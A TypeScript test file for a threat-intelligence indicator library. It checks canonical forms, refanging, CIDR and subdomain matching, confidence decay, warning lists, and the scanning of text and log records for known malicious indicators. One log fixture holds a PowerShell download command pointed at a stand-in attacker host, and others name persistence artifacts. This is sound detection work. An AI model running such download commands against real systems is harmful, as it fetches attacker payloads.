import {
  canonicalIndicator,
  guessIndicator,
  type IndicatorClaim,
  type IndicatorKind,
  refang,
} from '@cordon/model'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { decayed, defaultDecay } from './decay.ts'
import { IndicatorSet } from './indicator-set.ts'
import { RecordScanner } from './scan-record.ts'
import { scanText } from './scan-text.ts'
import { WarningLists } from './warning-lists.ts'

const day = 86_400_000
const now = Date.parse('2026-01-01T00:00:00Z')

function claim(kind: IndicatorKind, value: string, more: Partial<IndicatorClaim> = {}): IndicatorClaim {
  return { kind, value, source: 'test', about: [], ...more }
}

function setOf(...claims: IndicatorClaim[]): IndicatorSet {
  const set = new IndicatorSet()
  for (const one of claims) expect(set.add(one), one.value).toBeGreaterThanOrEqual(0)
  return set
}

const values = (set: IndicatorSet, text: string) => scanText(set, text).map(({ place }) => set.valueOf(place))

describe('canonical forms', () => {
  it.each<[IndicatorKind, string, string | undefined]>([
    ['ipv4', '203.0.113.9', '203.0.113.9'],
    ['ipv4', '203.0.113.9/24', '203.0.113.0/24'],
    ['ipv4', '203.0.113.09', undefined],
    ['ipv4', '203.0.113.256', undefined],
    ['ipv6', '2001:DB8:0:0:0:0:0:1', '2001:db8::1'],
    ['ipv6', '2001:db8:ffff::/33', '2001:db8:8000::/33'],
    ['domain', 'Evil.Example.', 'evil.example'],
    ['domain', 'Bücher.example', 'xn--bcher-kva.example'],
    ['domain', '10.0.0.1', undefined],
    ['domain', 'localhost', undefined],
    ['url', 'HTTPS://Evil.Example:443/Path?q=1#top', 'evil.example/Path?q=1'],
    ['url', 'http://evil.example', 'evil.example/'],
    ['url', 'ftp://evil.example/x', 'ftp://evil.example/x'],
    ['socket', '203.0.113.9:8080', '203.0.113.9:8080'],
    ['sha1', '525A8E3AE4E3DF8C9C61F2A49E38541D196E9228', '525a8e3ae4e3df8c9c61f2a49e38541d196e9228'],
    ['sha1', '525a8e', undefined],
    ['email', 'Who@Evil.Example', 'who@evil.example'],
    ['file-path', '%TMP%\\evchk.bat', '%temp%\\evchk.bat'],
    [
      'registry-key',
      'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\x',
      'hklm\\system\\currentcontrolset\\services\\x',
    ],
    ['wallet', '0x098B716B8Aaf21512996dC57EB0615e2383E2f96', '0x098b716b8aaf21512996dc57eb0615e2383e2f96'],
    ['bic', 'bbhobddhxxx', 'BBHOBDDH'],
    ['account', 'GB82 WEST 1234 5698 7654 32', 'GB82WEST12345698765432'],
  ])('%s %s is compared as %s', (kind, text, expected) => {
    expect(canonicalIndicator(kind, text)).toBe(expected)
  })

  it('is its own canonical form', () => {
    const texts = fc.oneof(
      fc.ipV4(),
      fc.ipV6(),
      fc.domain(),
      fc.webUrl({ withFragments: true, withQueryParameters: true }),
      fc.emailAddress(),
    )
    const kinds = ['ipv4', 'ipv6', 'domain', 'url', 'email', 'socket', 'file-path'] as const
    fc.assert(
      fc.property(texts, fc.constantFrom(...kinds), (text, kind) => {
        const once = canonicalIndicator(kind, text)
        if (once !== undefined) expect(canonicalIndicator(kind, once)).toBe(once)
      }),
    )
  })

  it('guesses what a bare value is', () => {
    expect(guessIndicator('hxxp://evil[.]example/a.php')).toEqual({
      kind: 'url',
      value: 'evil.example/a.php',
    })
    expect(guessIndicator('http://163.25.24.44')).toEqual({ kind: 'ipv4', value: '163.25.24.44' })
    expect(guessIndicator('163.25.24.44:443')).toEqual({ kind: 'socket', value: '163.25.24.44:443' })
    expect(guessIndicator('*.evil.example')).toEqual({
      kind: 'domain',
      value: 'evil.example',
      subdomains: true,
    })
    expect(guessIndicator('hello world')).toBeUndefined()
  })
})

describe('refang', () => {
  it.each([
    ['hxxps://evil[.]example/x', 'https://evil.example/x'],
    ['evil(.)example', 'evil.example'],
    ['evil[dot]example', 'evil.example'],
    ['evil (dot) example', 'evil.example'],
    ['who[at]evil[.]example', 'who@evil.example'],
    ['203[.]0[.]113[.]9', '203.0.113.9'],
    ['hxxp[://]evil.example', 'http://evil.example'],
    ['nothing to undo [1], see (2)', 'nothing to undo [1], see (2)'],
  ])('%s', (written, meant) => expect(refang(written)).toBe(meant))
})

describe('an indicator set', () => {
  it('holds every value that was added, and no other', () => {
    fc.assert(
      fc.property(fc.uniqueArray(fc.domain(), { maxLength: 300 }), fc.domain(), (domains, other) => {
        const set = setOf(...domains.map((value) => claim('domain', value)))
        for (const value of domains)
          expect(set.valueOf(set.find('domain', value))).toBe(canonicalIndicator('domain', value))
        const known = new Set(domains.map((value) => canonicalIndicator('domain', value)))
        expect(set.find('domain', other) >= 0).toBe(known.has(canonicalIndicator('domain', other)))
      }),
    )
  })

  it('finds a value in any spelling', () => {
    const set = setOf(
      claim('sha256', 'AB'.repeat(32)),
      claim('domain', 'evil.example'),
      claim('ipv4', '203.0.113.9'),
    )
    const found = (kind: IndicatorKind, value: string) => set.find(kind, value)
    expect(found('sha256', 'ab'.repeat(32))).toBe(0)
    expect(found('sha256', 'aB'.repeat(32))).toBe(0)
    expect(found('sha256', `${'ab'.repeat(31)}g0`)).toBe(-1)
    expect(found('sha256', `${'ab'.repeat(31)}\u01610`)).toBe(-1)
    expect(found('domain', 'EVIL.example.')).toBe(1)
    expect(found('ipv4', ' 203.0.113.9')).toBe(2)
    expect(found('ipv4', '203.0.113.9/32')).toBe(2)
  })

  it('compares the value and its kind, whatever the hash says', () => {
    const set = setOf(claim('md5', 'd41d8cd98f00b204e9800998ecf8427e'))
    expect(set.find('ja3', 'd41d8cd98f00b204e9800998ecf8427e')).toBe(-1)
    expect(set.find('md5', 'D41D8CD98F00B204E9800998ECF8427E')).toBe(0)
  })

  it('keeps what each source says of one value', () => {
    const set = setOf(
      claim('domain', 'evil.example', {
        source: 'one',
        confidence: 0.9,
        tlp: 'TLP:AMBER',
        pap: 'PAP:RED',
        note: 'loader',
      }),
      claim('domain', 'EVIL.example', { source: 'two', confidence: 0.2, validFrom: now - day }),
    )
    const { claims, confidence } = set.view(0, now)
    expect(set.size).toBe(1)
    expect(confidence).toBe(0.9)
    expect(claims).toMatchObject([
      { source: 'one', tlp: 'TLP:AMBER', pap: 'PAP:RED', note: 'loader' },
      { source: 'two', confidence: 0.2, validFrom: now - day },
    ])
  })

  it('does not take what a source took back', () => {
    const set = new IndicatorSet()
    expect(set.add(claim('domain', 'evil.example', { revoked: true }))).toBe(-1)
    expect(set.size).toBe(0)
  })

  it('finds an address in every network that holds it', () => {
    const set = setOf(
      claim('ipv4', '203.0.113.0/24'),
      claim('ipv4', '203.0.0.0/16'),
      claim('ipv6', '2001:db8::/32'),
    )
    const met = (kind: IndicatorKind, value: string) =>
      set.lookUp(kind, value).map(({ place, how }) => [set.valueOf(place), how])
    expect(met('ipv4', '203.0.113.9')).toEqual([
      ['203.0.113.0/24', 'network'],
      ['203.0.0.0/16', 'network'],
    ])
    expect(met('ipv4', '203.1.0.1')).toEqual([])
    expect(met('ipv6', '2001:db8:9::1')).toEqual([['2001:db8::/32', 'network']])
    expect(met('ipv4', '203.0.113.0/24').map(([, how]) => how)).toEqual(['itself', 'network'])
  })

  it('means names under a domain only where the source says so', () => {
    const set = setOf(claim('domain', 'evil.example', { subdomains: true }), claim('domain', 'duckdns.org'))
    expect(set.lookUp('domain', 'c2.evil.example')).toEqual([{ place: 0, how: 'parent-domain' }])
    expect(set.lookUp('domain', 'mine.duckdns.org')).toEqual([])
    expect(set.lookUp('domain', 'notevil.example')).toEqual([])
  })

  it('grows without losing anything', () => {
    const set = new IndicatorSet({ expected: 1 })
    for (let i = 0; i < 20_000; i++) set.add(claim('domain', `host-${i}.example`))
    for (let i = 0; i < 20_000; i += 7)
      expect(set.valueOf(set.find('domain', `host-${i}.example`))).toBe(`host-${i}.example`)
  })
})

describe('validity and decay', () => {
  it('fades by the days since the last sighting, never below nothing', () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 4000 }), fc.integer({ min: 0, max: 4000 }), (a, b) => {
        const at = (days: number) => decayed(0.8, now, now + days * day, defaultDecay.domain)
        expect(at(a)).toBeGreaterThanOrEqual(0)
        expect(at(a)).toBeLessThanOrEqual(0.8)
        if (a <= b) expect(at(a)).toBeGreaterThanOrEqual(at(b))
      }),
    )
  })

  it('starts again on a new sighting, and an old one changes nothing', () => {
    const set = setOf(claim('ipv4', '203.0.113.9', { confidence: 0.8, lastSeen: now - 200 * day }))
    expect(set.view(0, now).state).toBe('decayed')
    set.sight(0, now - day)
    set.sight(0, now - 300 * day)
    const view = set.view(0, now)
    expect(view).toMatchObject({ state: 'active', sightings: 2, lastSeen: now - day })
    expect(view.score).toBeGreaterThan(0.7)
    expect(set.view(0, view.decaysAt! - day).state).toBe('active')
    expect(set.view(0, view.decaysAt! + day).state).toBe('decayed')
  })

  it('is expired when every source that gave an end has passed it', () => {
    const set = setOf(
      claim('domain', 'evil.example', { validFrom: now - day, validUntil: now + day, confidence: 0.5 }),
    )
    expect(set.view(0, now).state).toBe('active')
    expect(set.view(0, now + day).state).toBe('expired')
    set.add(claim('domain', 'evil.example', { source: 'other', lastSeen: now, confidence: 0.5 }))
    expect(set.view(0, now + day).state).toBe('active')
  })

  it('says when a record is older than what any source says', () => {
    const set = setOf(claim('domain', 'evil.example', { validFrom: now }))
    expect(set.view(0, now - day)).toMatchObject({ early: true, state: 'active' })
    expect(set.view(0, now + day).early).toBe(false)
  })
})

describe('warning lists', () => {
  const lists = new WarningLists([
    { name: 'Dynamic DNS', type: 'hostname', version: '1', list: ['.duckdns.org'] },
    { name: 'Public resolvers', type: 'cidr', list: ['8.8.8.8', '1.1.1.0/24'] },
    { name: 'Popular', type: 'string', list: ['github.com'] },
    { name: 'Odd', type: 'regex', list: ['/[a-z]+\\.internal\\.example/'] },
  ])

  it('sets aside what is listed itself, and says where', () => {
    const set = new IndicatorSet({ warningLists: lists })
    set.add(claim('domain', 'github.com'))
    expect(set.view(0, now)).toMatchObject({
      state: 'set-aside',
      warnings: [
        {
          list: 'Popular',
          entry: 'github.com',
          setsAside: true,
          reason: 'Popular: github.com itself is on it',
        },
      ],
    })
  })

  it('only notes what a full name stands under', () => {
    expect(lists.check('domain', 'pay1oad.duckdns.org')).toMatchObject([
      { list: 'Dynamic DNS', setsAside: false },
    ])
    expect(lists.check('url', 'github.com/evil/raw')).toMatchObject([{ list: 'Popular', setsAside: false }])
    expect(lists.check('domain', 'duckdns.org')).toMatchObject([{ list: 'Dynamic DNS', setsAside: true }])
    expect(lists.check('domain', 'notgithub.com')).toEqual([])
  })

  it('holds addresses against networks, and a wider network against nothing', () => {
    expect(lists.check('ipv4', '1.1.1.9')).toMatchObject([{ list: 'Public resolvers', entry: '1.1.1.0/24' }])
    expect(lists.check('ipv4', '1.1.0.0/16')).toEqual([])
  })

  it('holds patterns against the whole value', () => {
    expect(lists.check('domain', 'a.internal.example')).toHaveLength(1)
    expect(lists.check('domain', 'a.internal.example.evil.net')).toEqual([])
  })

  it('names entries it can not take', () => {
    const bad = new WarningLists([{ name: 'Bad', type: 'regex', list: ['/(?<=a)b/'] }])
    expect(bad.rejects).toMatchObject([{ list: 'Bad', entry: '/(?<=a)b/' }])
  })
})

describe('free text', () => {
  const set = setOf(
    claim('domain', 'evil.example'),
    claim('ipv4', '203.0.113.9'),
    claim('ipv6', '2001:db8::9'),
    claim('url', 'http://evil.example/al?---O'),
    claim('url', 'shop.example/inc/left.php'),
    claim('sha1', '525a8e3ae4e3df8c9c61f2a49e38541d196e9228'),
    claim('email', 'recruiter@evil.example'),
    claim('file-name', 'evtdiag.exe'),
    claim('file-path', '%TEMP%\\evchk.bat'),
    claim('mutex', 'Global\\FwtSqmSession106839323_S-1-5-20'),
    claim('registry-key', 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\diagsysevt'),
    claim('user-agent', 'Mozilla/4.0 (compatible; MSIE 8.0; Win32)'),
    claim('wallet', '0x098B716B8Aaf21512996dC57EB0615e2383E2f96'),
    claim('bic', 'BBHOBDDH'),
    claim('account', 'GB82WEST12345698765432'),
    claim('socket', '203.0.113.9:8080'),
  )

  it.each<[string, string[]]>([
    ['the host evil[.]example answered', ['evil.example']],
    ['not-evil.example and evil.example.org are others', []],
    ['GET hxxp://evil[.]example/al?---O HTTP/1.1', ['evil.example/al?---O', 'evil.example']],
    ['GET http://shop.example/inc/left.php?id=3', ['shop.example/inc/left.php']],
    ['(see 203.0.113.9:8080, 2001:DB8:0::9.)', ['203.0.113.9:8080', '203.0.113.9', '2001:db8::9']],
    ['SHA1=525A8E3AE4E3DF8C9C61F2A49E38541D196E9228,MD5=0', ['525a8e3ae4e3df8c9c61f2a49e38541d196e9228']],
    ['from recruiter [at] evil [dot] example', ['recruiter@evil.example', 'evil.example']],
    ['ran C:\\Users\\kim\\AppData\\Local\\Temp\\evchk.bat', ['%temp%\\evchk.bat']],
    ['C:\\Windows\\evtdiag.exe -svc', ['evtdiag.exe']],
    [
      'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\diagsysevt',
      ['hklm\\system\\currentcontrolset\\services\\diagsysevt'],
    ],
    [
      '1.2.3.4 - - "GET /" "Mozilla/4.0 (compatible; MSIE 8.0; Win32)"',
      ['Mozilla/4.0 (compatible; MSIE 8.0; Win32)'],
    ],
    ['sent to 0x098b716b8aaf21512996dc57eb0615e2383e2f96', ['0x098b716b8aaf21512996dc57eb0615e2383e2f96']],
    ['{1:F01BBHOBDDHAXXX0000000000} BBHOBDDHXXX', ['BBHOBDDH']],
    [':59:/GB82WEST12345698765432', ['GB82WEST12345698765432']],
    ['pay GB82WEST12345698765432 now', ['GB82WEST12345698765432']],
  ])('%s', (text, expected) => expect(values(set, text)).toEqual(expected))

  it('tells what was defanged', () => {
    expect(scanText(set, 'evil[.]example')).toMatchObject([{ written: 'evil.example', defanged: true }])
    expect(scanText(set, 'evil.example')).toMatchObject([{ defanged: false }])
  })

  it('reads any text to its end', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (text) => {
        expect(values(set, `${text} evil.example`)).toContain('evil.example')
      }),
    )
  })
})

describe('log records', () => {
  const set = setOf(
    claim('domain', 'evil.example'),
    claim('socket', '203.0.113.9:8080'),
    claim('md5', '0123456789abcdef0123456789abcdef'),
    claim('file-path', '%TEMP%\\evchk.bat'),
    claim('ja3', '6734f37431670b3ab4292b8f60f29984'),
  )
  const scanner = new RecordScanner(set)
  const met = (fields: Record<string, unknown>) =>
    scanner.scan(fields).map(({ place, path }) => [path, set.valueOf(place)])

  it('looks fields up by what they mean', () => {
    expect(met({ EventID: 22, QueryName: 'Evil.Example' })).toEqual([['QueryName', 'evil.example']])
    expect(
      met({
        event_type: 'tls',
        tls: { sni: 'evil.example', ja3: { hash: '6734f37431670b3ab4292b8f60f29984' } },
      }),
    ).toEqual([
      ['tls.sni', 'evil.example'],
      ['tls.ja3.hash', '6734f37431670b3ab4292b8f60f29984'],
    ])
    expect(met({ TargetFilename: 'C:\\Users\\kim\\AppData\\Local\\Temp\\evchk.bat' })).toHaveLength(1)
  })

  it('puts address and port together', () => {
    expect(met({ 'id.resp_h': '203.0.113.9', 'id.resp_p': 8080 })).toEqual([
      ['id.resp_h', '203.0.113.9:8080'],
    ])
    expect(met({ DestinationIp: '203.0.113.9', DestinationPort: '443' })).toEqual([])
  })

  it('does not take an import hash for an MD5', () => {
    expect(met({ Hashes: 'IMPHASH=0123456789ABCDEF0123456789ABCDEF' })).toEqual([])
    expect(met({ Hashes: 'MD5=0123456789ABCDEF0123456789ABCDEF' })).toHaveLength(1)
  })

  it('reads fields it does not know as text', () => {
    expect(met({ CommandLine: 'powershell iwr https://evil.example/x' })).toEqual([
      ['CommandLine', 'evil.example'],
    ])
    expect(met({ Host: 'evil.example:8443' })).toEqual([['Host', 'evil.example']])
  })
})
